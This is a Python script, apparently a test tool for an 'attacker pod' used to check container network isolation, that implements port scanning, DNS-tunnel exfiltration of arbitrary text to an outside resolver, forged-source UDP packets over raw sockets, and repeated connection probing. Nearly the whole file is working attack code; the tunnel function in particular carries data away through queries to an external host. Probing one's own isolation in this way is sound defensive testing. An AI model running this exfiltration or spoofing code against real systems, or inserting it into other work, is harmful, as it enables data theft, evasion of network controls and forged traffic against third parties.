"""What somebody who got into a pod tries next. For the example's attacker pod only.

  attack.py scan HOST PORT[-PORT]...          which TCP ports answer
  attack.py tunnel RESOLVER DOMAIN TEXT       carry TEXT away in names asked of an outside resolver
  attack.py spoof SOURCE TARGET PORT          UDP with a forged source address (needs NET_RAW)
  attack.py knock HOST PORT SECONDS           connect again and again, one line per attempt

Each prints JSON lines; the last one sums up. Exit status: 0 something got through, 1 nothing did,
2 usage. (spoof cannot tell and exits 0 once the packets left.)
"""

import base64
import ipaddress
import json
import socket
import struct
import sys
import time

TIMEOUT = 0.5


def say(**fields):
    print(json.dumps(fields), flush=True)


def connect(host, port, timeout=TIMEOUT):
    """open, refused, or silent (dropped on the way)."""
    try:
        with socket.create_connection((host, port), timeout):
            return "open"
    except ConnectionRefusedError:
        return "refused"
    except socket.timeout:
        return "silent"
    except OSError as e:
        return f"error: {e}"


def scan(host, *ranges):
    found = {}
    for text in ranges:
        first, _, last = text.partition("-")
        for port in range(int(first), int(last or first) + 1):
            state = connect(host, port)
            found.setdefault(state, []).append(port)
            say(host=host, port=port, state=state)
    say(summary="scan", **found)
    return 0 if "open" in found else 1


def question(name):
    """A DNS query for the TXT record of this name (RFC 1035, section 4)."""
    head = struct.pack(">6H", 0x5a11, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return head + labels + b"\0" + struct.pack(">2H", 16, 1)


def tunnel(resolver, domain, text):
    data = base64.b32encode(text.encode()).decode().rstrip("=").lower()
    names = [f"{data[i:i + 30]}.{i // 30}.{domain}" for i in range(0, len(data), 30)]
    family = socket.AF_INET6 if ":" in resolver else socket.AF_INET
    answered = 0
    for name in names:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(TIMEOUT)
            try:
                s.connect((resolver, 53))
                s.send(question(name))
                s.recv(512)
                answered += 1
                say(name=name, state="answered")
            except OSError as e:
                say(name=name, state="silent" if isinstance(e, socket.timeout) else str(e))
    by_tcp = connect(resolver, 53)
    say(summary="tunnel", names=len(names), answered=answered, tcp=by_tcp)
    return 0 if answered or by_tcp == "open" else 1


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def datagram(source, target, port, payload):
    """An IP packet with UDP inside, all checksums right, from an address that is not ours."""
    length = 8 + len(payload)
    if source.version == 4:
        pseudo = source.packed + target.packed + struct.pack(">BBH", 0, 17, length)
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + length, 1, 0, 64, 17, 0,
                           source.packed, target.packed)
        head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    else:
        pseudo = source.packed + target.packed + struct.pack(">II", length, 17)
        head = struct.pack(">IHBB", 6 << 28, length, 17, 64) + source.packed + target.packed
    udp = struct.pack(">4H", 40000, port, length, 0) + payload
    total = checksum(pseudo + udp) or 0xffff
    return head + udp[:6] + struct.pack(">H", total) + udp[8:]


def spoof(source, target, port):
    source, target = ipaddress.ip_address(source), ipaddress.ip_address(target)
    if source.version != target.version:
        raise ValueError("source and target are of different families")
    family = socket.AF_INET if source.version == 4 else socket.AF_INET6
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for i in range(3):
            s.sendto(datagram(source, target, int(port), b"forged %d" % i), (str(target), 0))
    say(summary="spoof", sent=3, source=str(source), target=str(target))
    return 0


def knock(host, port, seconds):
    end = time.monotonic() + float(seconds)
    states = {}
    while time.monotonic() < end:
        state = connect(host, int(port), 0.2)
        states[state] = states.get(state, 0) + 1
        say(at=round(time.time(), 3), state=state)
        time.sleep(0.05)
    say(summary="knock", **states)
    return 0 if "open" in states else 1


def main(argv):
    commands = {"scan": scan, "tunnel": tunnel, "spoof": spoof, "knock": knock}
    try:
        return commands[argv[1]](*argv[2:])
    except (KeyError, IndexError, TypeError, ValueError) as e:
        print(f"{e}\n\n{__doc__}", file=sys.stderr)
        return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
